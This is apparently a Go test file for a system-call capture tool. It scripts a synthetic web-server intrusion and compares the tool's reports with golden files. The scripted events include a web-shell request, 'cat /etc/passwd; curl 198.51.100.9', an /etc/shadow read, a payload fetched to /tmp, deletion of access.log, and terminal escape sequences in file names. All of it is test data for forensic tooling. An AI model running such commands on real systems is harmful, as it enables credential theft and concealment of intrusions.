package query

import (
	"bytes"
	"net/netip"
	"os"
	"path/filepath"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"github.com/sysreel/sysreel/replay"
	"github.com/sysreel/sysreel/scapfile"
	"github.com/sysreel/sysreel/scapfile/schema"
)

// incidentCapture is the bundled capture: a synthetic incident on a host that
// does not exist. The web server is sent a command, its shell reads the password
// file, calls home, hides what it did and leaves. -update writes it anew.
const incidentCapture = "testdata/incident.scap"

// script writes an incident.
type script struct {
	t  *testing.T
	w  *scapfile.Writer
	ts uint64
}

func (s *script) do(typ schema.EventType, tid int64, params ...[]byte) {
	s.t.Helper()
	s.ts += 1_250_000
	e := scapfile.NewEvent(typ, s.ts, tid, params...)
	e.CPU = uint16(tid & 1)
	if err := s.w.Write(e); err != nil {
		s.t.Fatal(err)
	}
}

func (s *script) fork(parent, child int64, comm, exe string, uid uint32) {
	common := func(res, tid, ptid int64) [][]byte {
		return [][]byte{scapfile.I64(res), scapfile.Text(exe), nil, scapfile.I64(tid), scapfile.I64(tid), scapfile.I64(ptid),
			scapfile.Text("/var/www/"), scapfile.I64(1024), scapfile.U64(0), scapfile.U64(0), scapfile.U32(0), scapfile.U32(0), scapfile.U32(0),
			scapfile.Text(comm), nil, scapfile.U32(0), scapfile.U32(uid), scapfile.U32(uid), scapfile.I64(tid), scapfile.I64(tid), scapfile.U64(0)}
	}
	s.do(schema.PPME_SYSCALL_CLONE_20_X, parent, common(child, parent, 1)...)
	s.do(schema.PPME_SYSCALL_CLONE_20_X, child, common(0, child, parent)...)
}

func (s *script) exec(tid, ptid int64, path, comm string, uid uint32, args ...string) {
	s.do(schema.PPME_SYSCALL_EXECVE_19_X, tid, scapfile.I64(0), scapfile.Text(args[0]), scapfile.Texts(args[1:]...), scapfile.I64(tid),
		scapfile.I64(tid), scapfile.I64(ptid), scapfile.Text("/var/www/"), scapfile.U64(1024), scapfile.U64(0), scapfile.U64(0),
		scapfile.U32(0), scapfile.U32(0), scapfile.U32(0), scapfile.Text(comm), nil, scapfile.Texts("PATH=/usr/bin:/bin"), scapfile.U32(0),
		scapfile.I64(801), scapfile.U32(0xFFFFFFFF), scapfile.U32(0), scapfile.U64(0), scapfile.U64(0), scapfile.U64(0), scapfile.U64(77),
		scapfile.U64(0), scapfile.U64(0), scapfile.U32(uid), scapfile.Text(path), scapfile.I64(801), scapfile.U32(uid), scapfile.Text(path))
}

func (s *script) open(tid, fd int64, name string, flags uint32) {
	s.do(schema.PPME_SYSCALL_OPENAT_2_X, tid, scapfile.I64(fd), scapfile.I64(schema.PPM_AT_FDCWD), scapfile.Text(name), scapfile.U32(flags),
		scapfile.U32(0), scapfile.U32(0x10301), scapfile.U64(4711))
}

func (s *script) io(typ schema.EventType, tid, fd int64, data string) {
	s.do(typ, tid, scapfile.I64(int64(len(data))), []byte(data), scapfile.I64(fd), scapfile.U32(uint32(len(data))))
}

func (s *script) closeFD(tid, fd int64) {
	s.do(schema.PPME_SYSCALL_CLOSE_X, tid, scapfile.I64(0), scapfile.I64(fd))
}

func (s *script) exit(tid, status int64) {
	s.do(schema.PPME_PROCEXIT_1_E, tid, scapfile.I64(status<<8), scapfile.I64(status), scapfile.U8(0), scapfile.U8(0), scapfile.I64(0))
}

func incidentSnapshot() *scapfile.Snapshot {
	thread := func(tid, ptid int64, comm, path string, uid uint32, args ...string) scapfile.Thread {
		return scapfile.Thread{TID: tid, PID: tid, PTID: ptid, SID: tid, VPGID: tid, PGID: tid, VTID: tid, VPID: tid, Comm: comm, Exe: path,
			ExePath: path, Args: args, CWD: "/", Root: "/", FDLimit: 1024, UID: uid, GID: uid, LoginUID: 0xFFFFFFFF}
	}
	nginx := thread(801, 1, "nginx", "/usr/sbin/nginx", 33, "-g", "daemon off;")
	nginx.FDs = []scapfile.FD{{Num: 6, Type: schema.SCAP_FD_IPV4_SERVSOCK, Dst: netip.MustParseAddrPort("10.0.0.4:80"), L4: schema.SCAP_L4_TCP}}
	return &scapfile.Snapshot{
		Machine: &scapfile.MachineInfo{NumCPUs: 2, MemoryB: 4 << 30, MaxPID: 32768, Hostname: "web01"},
		Interfaces: []scapfile.Interface{{Name: "eth0", Addr: netip.MustParseAddr("10.0.0.4"), Netmask: netip.MustParseAddr("255.255.255.0"),
			Broadcast: netip.MustParseAddr("10.0.0.255")}},
		Users:   []scapfile.User{{UID: 0, GID: 0, Name: "root", Home: "/root", Shell: "/bin/bash"}, {UID: 33, GID: 33, Name: "www-data", Home: "/var/www", Shell: "/usr/sbin/nologin"}},
		Groups:  []scapfile.Group{{GID: 0, Name: "root"}, {GID: 33, Name: "www-data"}},
		Threads: []scapfile.Thread{thread(1, 0, "systemd", "/usr/lib/systemd/systemd", 0), nginx},
	}
}

// writeIncident writes the incident and returns its bytes.
func writeIncident(t *testing.T) []byte {
	var buf bytes.Buffer
	start := time.Date(2026, 3, 2, 12, 7, 31, 0, time.UTC)
	w, err := scapfile.NewWriter(&buf, incidentSnapshot(), scapfile.WriterOptions{Compression: scapfile.CompressionGzip, SyncEvery: -1,
		Meta: &scapfile.Meta{Tool: "sysreel", Created: start, Closed: start}})
	if err != nil {
		t.Fatal(err)
	}
	s := &script{t: t, w: w, ts: uint64(start.UnixNano())}
	client := netip.MustParseAddrPort("10.0.0.7:51022")
	server := netip.MustParseAddrPort("10.0.0.4:80")
	home := netip.MustParseAddrPort("198.51.100.9:4444")
	local := netip.MustParseAddrPort("10.0.0.4:40130")

	s.do(schema.PPME_SOCKET_ACCEPT4_6_X, 801, scapfile.I64(9), scapfile.SockTuple(client, server), scapfile.U8(0), scapfile.U32(0), scapfile.U32(128), scapfile.I32(0))
	s.io(schema.PPME_SYSCALL_READ_X, 801, 9, "GET /up.php?c=id HTTP/1.1\r\n\r\n")
	s.fork(801, 4411, "nginx", "/usr/sbin/nginx", 33)
	s.exec(4411, 801, "/usr/bin/dash", "sh", 33, "sh", "-c", "cat /etc/passwd; curl 198.51.100.9")
	s.fork(4411, 4412, "sh", "sh", 33)
	s.exec(4412, 4411, "/usr/bin/cat", "cat", 33, "cat", "/etc/passwd")
	s.open(4412, 3, "/etc/passwd", schema.PPM_O_RDONLY)
	s.io(schema.PPME_SYSCALL_READ_X, 4412, 3, "root:x:0:0:root:/root:/bin/bash\n")
	s.closeFD(4412, 3)
	s.open(4412, -13, "/etc/shadow", schema.PPM_O_RDONLY)
	s.exit(4412, 1)
	s.fork(4411, 4413, "sh", "sh", 33)
	s.exec(4413, 4411, "/usr/bin/curl", "curl", 33, "curl", "198.51.100.9")
	s.do(schema.PPME_SOCKET_SOCKET_X, 4413, scapfile.I64(3), scapfile.U32(schema.PPM_AF_INET), scapfile.U32(1), scapfile.U32(6))
	s.do(schema.PPME_SOCKET_CONNECT_X, 4413, scapfile.I64(0), scapfile.SockTuple(local, home), scapfile.I64(3), scapfile.SockAddr(home))
	s.do(schema.PPME_SOCKET_SENDTO_X, 4413, scapfile.I64(11), []byte("GET /k HTTP"), scapfile.I64(3), scapfile.U32(11))
	s.io(schema.PPME_SYSCALL_READ_X, 4413, 3, "\x1b]0;owned\a#!/bin/sh\n")
	s.open(4413, 4, "/tmp/\x1b[2J.x", schema.PPM_O_WRONLY|schema.PPM_O_CREAT)
	s.io(schema.PPME_SYSCALL_WRITE_X, 4413, 4, "#!/bin/sh\n")
	s.closeFD(4413, 4)
	s.closeFD(4413, 3)
	s.exit(4413, 0)
	s.do(schema.PPME_SYSCALL_FCHMODAT_X, 4411, scapfile.I64(0), scapfile.I64(schema.PPM_AT_FDCWD), scapfile.Text("/tmp/\x1b[2J.x"), scapfile.U32(0o755))
	s.do(schema.PPME_SYSCALL_RENAMEAT2_X, 4411, scapfile.I64(0), scapfile.I64(schema.PPM_AT_FDCWD), scapfile.Text("/tmp/\x1b[2J.x"), scapfile.I64(schema.PPM_AT_FDCWD), scapfile.Text("/tmp/=cmd"))
	s.do(schema.PPME_SYSCALL_UNLINKAT_2_X, 4411, scapfile.I64(-2), scapfile.I64(schema.PPM_AT_FDCWD), scapfile.Text("access.log"), scapfile.U32(0))
	s.exit(4411, 0)
	s.io(schema.PPME_SYSCALL_WRITE_X, 801, 9, "HTTP/1.1 200 OK\r\n\r\nuid=33(www-data)")
	s.closeFD(801, 9)
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// updateIncident writes the bundled capture anew, unless only the time at which
// it was written would change.
func updateIncident(t *testing.T) {
	lines := func(path string) string {
		var b []byte
		eachEvent(t, path, func(ev *replay.Event) { b = append(replay.AppendLine(b, ev), '\n') })
		return string(b)
	}
	fresh := filepath.Join(t.TempDir(), "incident.scap")
	b := writeIncident(t)
	if err := os.WriteFile(fresh, b, 0o644); err != nil {
		t.Fatal(err)
	}
	if _, err := os.Stat(incidentCapture); err == nil && lines(fresh) == lines(incidentCapture) {
		return
	}
	if err := os.WriteFile(incidentCapture, b, 0o644); err != nil {
		t.Fatal(err)
	}
}

// TestReportGoldens compares every report on the bundled capture, in every
// format, with what it was.
func TestReportGoldens(t *testing.T) {
	if *update {
		updateIncident(t)
	}
	ix := buildIndex(t, incidentCapture)
	args := map[string][]string{"top": {"proc.name", "fd.name", "evt.cpu"}, "story": {"4413", "/etc/passwd", "198.51.100.9"}}
	var out bytes.Buffer
	for _, r := range Reports() {
		list := args[r.Name]
		if r.Arg == "" {
			list = []string{""}
		}
		for _, arg := range list {
			for _, format := range []string{"table", "json", "csv"} {
				if format != "table" && r.Name != "files" && r.Name != "connections" {
					continue
				}
				var w Writer = &TableWriter{W: &out}
				switch format {
				case "json":
					w = &JSONWriter{W: &out}
				case "csv":
					w = &CSVWriter{W: &out}
				}
				res, err := r.Run(t.Context(), ix, ReportOptions{Arg: arg, Plain: format != "table"})
				if err != nil {
					t.Fatalf("%s %s: %v", r.Name, arg, err)
				}
				out.WriteString("== " + r.Name + " " + arg + " " + format + "\n")
				if _, err := w.Write(res.Columns, res); err != nil {
					t.Fatalf("%s %s: %v", r.Name, arg, err)
				}
				res.Close()
			}
		}
	}
	golden(t, "reports.golden", out.Bytes())
}

// golden compares got with a file of testdata, or writes it with -update.
func golden(t *testing.T, name string, got []byte) {
	t.Helper()
	path := filepath.Join("testdata", name)
	if *update {
		if err := os.WriteFile(path, got, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	if d := cmp.Diff(string(want), string(got)); d != "" {
		t.Errorf("%s differs; run go test ./query -run %s -update and read what changed (-want +got):\n%s", path, t.Name(), d)
	}
}
